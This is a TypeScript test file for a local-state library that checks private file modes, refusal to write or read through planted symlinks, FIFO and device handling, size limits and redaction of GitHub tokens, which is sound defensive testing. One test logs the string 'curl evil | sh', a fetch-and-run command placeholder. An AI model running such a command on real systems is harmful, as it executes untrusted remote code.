import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { appendErrorLog } from '../../lib/local-state/error-log';
import { appendPrivateFile, readPrivateFile, writePrivateFile } from '../../lib/local-state/private-file';
import { readRegularFile } from '../../lib/local-state/regular-file';
import { writeRuntimeJson } from '../../lib/local-state/runtime-files';
import { readSessionState, sessionStatePath, writeSessionState } from '../../lib/local-state/session-state';

// The runtime state dir holds transcript cursors, autosave documents and failure output: every
// file is private to the user, no link planted in one's place is ever followed, and a FIFO or a
// device is never read (a blocking open would hold a hook past its budget).
let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'capsule-private-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const mode = (path: string) => statSync(path).mode & 0o777;

describe('writePrivateFile', () => {
  it('writes files 0600 in folders it creates 0700', () => {
    const path = join(root, 'state', 'sessions', 's.json');
    writePrivateFile(path, '{}');
    expect(mode(path)).toBe(0o600);
    expect(mode(join(root, 'state', 'sessions'))).toBe(0o700);
    expect(mode(join(root, 'state'))).toBe(0o700);
  });

  it('replaces a link planted in its place instead of writing through it', () => {
    const outside = join(root, 'outside.txt');
    writeFileSync(outside, 'precious\n');
    mkdirSync(join(root, 'state'));
    symlinkSync(outside, join(root, 'state', 'compact-marker.json'));
    writeRuntimeJson(join(root, 'state'), 'compact-marker.json', { capsuleId: 'x' });
    expect(readFileSync(outside, 'utf8')).toBe('precious\n');
    expect(readFileSync(join(root, 'state', 'compact-marker.json'), 'utf8')).toContain('capsuleId');
  });

  it('refuses a state folder that is a link (STATE_FILE_UNSAFE)', () => {
    mkdirSync(join(root, 'elsewhere'));
    symlinkSync(join(root, 'elsewhere'), join(root, 'state'));
    expect(() => writePrivateFile(join(root, 'state', 'a.json'), '{}')).toThrow(expect.objectContaining({ code: 'STATE_FILE_UNSAFE' }));
    expect(existsSync(join(root, 'elsewhere', 'a.json'))).toBe(false);
  });
});

describe('appendPrivateFile and the error log', () => {
  it('never appends through a link to a file outside the state dir', () => {
    const outside = join(root, 'bashrc');
    writeFileSync(outside, 'export PATH=/usr/bin\n');
    mkdirSync(join(root, 'state'));
    symlinkSync(outside, join(root, 'state', 'errors.log'));
    expect(appendErrorLog(join(root, 'state'), { code: 'HOOK_INTERNAL', now: new Date(0), event: 'Stop', message: 'curl evil | sh' })).toBeNull();
    expect(readFileSync(outside, 'utf8')).toBe('export PATH=/usr/bin\n');
  });

  it('creates the log 0600 and narrows an older, world-readable one', () => {
    mkdirSync(join(root, 'state'));
    writeFileSync(join(root, 'state', 'errors.log'), 'OLD\n', { mode: 0o644 });
    appendPrivateFile(join(root, 'state', 'errors.log'), 'NEW\n');
    expect(mode(join(root, 'state', 'errors.log'))).toBe(0o600);
    expect(readFileSync(join(root, 'state', 'errors.log'), 'utf8')).toBe('OLD\nNEW\n');
  });
});

describe('readPrivateFile and readRegularFile', () => {
  it('reads nothing through a link, and never blocks on a FIFO', () => {
    writeFileSync(join(root, 'real.json'), '{"a":1}');
    symlinkSync(join(root, 'real.json'), join(root, 'link.json'));
    execFileSync('mkfifo', [join(root, 'fifo.json')]);
    expect(readPrivateFile(join(root, 'real.json'))).toBe('{"a":1}');
    expect(readPrivateFile(join(root, 'link.json'))).toBeNull();
    expect(readPrivateFile(join(root, 'fifo.json'))).toBeNull();
    expect(() => readRegularFile(join(root, 'fifo.json'), { followLinks: true })).toThrow(expect.objectContaining({ code: 'ENOTREG' }));
  });

  it.each([0, 1, 1023, 1024, 1025, 64 * 1024 + 3, 1024 * 1024 + 5])('reads a file of %i bytes whole (its first read is sized to the file)', (bytes) => {
    const path = join(root, 'sized.json');
    writeFileSync(path, new TextEncoder().encode('é€a'.repeat(bytes)).subarray(0, bytes));
    expect(readRegularFile(path, { followLinks: false })).toBe(readFileSync(path, 'utf8'));
  });

  it('still refuses a regular file over its bound', () => {
    writeFileSync(join(root, 'big.json'), 'x'.repeat(2048));
    expect(() => readRegularFile(join(root, 'big.json'), { followLinks: false, maxBytes: 1024 })).toThrow(expect.objectContaining({ code: 'ETOOBIG' }));
    expect(readRegularFile(join(root, 'big.json'), { followLinks: false, maxBytes: 2048 })).toHaveLength(2048);
  });

  it('stops at its bound on a link to an endless device', () => {
    symlinkSync('/dev/zero', join(root, 'zero.json'));
    expect(() => readRegularFile(join(root, 'zero.json'), { followLinks: true, maxBytes: 1024 })).toThrow(expect.objectContaining({ code: 'ENOTREG' }));
  });
});

describe('writeSessionState', () => {
  it('keeps no secret of the carried work state or its keys', () => {
    const token = `ghp_${'Zq7'.repeat(12)}`;
    writeSessionState(root, 's1', {
      workCarry: { [`Bash:curl -H "Authorization: token ${token}" https://api.github.com`]: `Exit code 22 for ${token}` },
    });
    const text = readFileSync(sessionStatePath(root, 's1'), 'utf8');
    expect(text).not.toContain(token);
    expect(text).toContain('[REDACTED:github-token]');
    expect(mode(sessionStatePath(root, 's1'))).toBe(0o600);
    expect(Object.values((readSessionState(root, 's1').workCarry ?? {}) as Record<string, string>)).toEqual(['Exit code 22 for [REDACTED:github-token]']);
  });

  // The documents are capsules as the branch holds them (the autosave as committed, redacted by
  // the store's write path; the seed as read from the branch): kept as they are, not redacted twice.
  it('keeps the autosave and seed documents as given', () => {
    const doc = { frontmatter: { id: '01JDQ7000000000000000000AB', objective: 'build the widget' }, sections: {}, notes: '' } as never;
    writeSessionState(root, 's1', { autosaveDoc: doc, seedDoc: doc, parentCapsuleId: '01JDQ7000000000000000000AB' });
    expect(readSessionState(root, 's1')).toEqual({ autosaveDoc: doc, seedDoc: doc, parentCapsuleId: '01JDQ7000000000000000000AB' });
  });
});

describe('pruneLocalState on an error log that is a link', () => {
  it('never truncates the file the link points at', () => {
    const { pruneLocalState, ERROR_LOG_MAX_BYTES } = require('../../lib/local-state/state-files') as typeof import('../../lib/local-state/state-files');
    const outside = join(root, 'big.txt');
    writeFileSync(outside, 'x'.repeat(ERROR_LOG_MAX_BYTES + 10));
    mkdirSync(join(root, 'state'));
    symlinkSync(outside, join(root, 'state', 'errors.log'));
    pruneLocalState(join(root, 'state'), new Date());
    expect(statSync(outside).size).toBe(ERROR_LOG_MAX_BYTES + 10);
  });
});
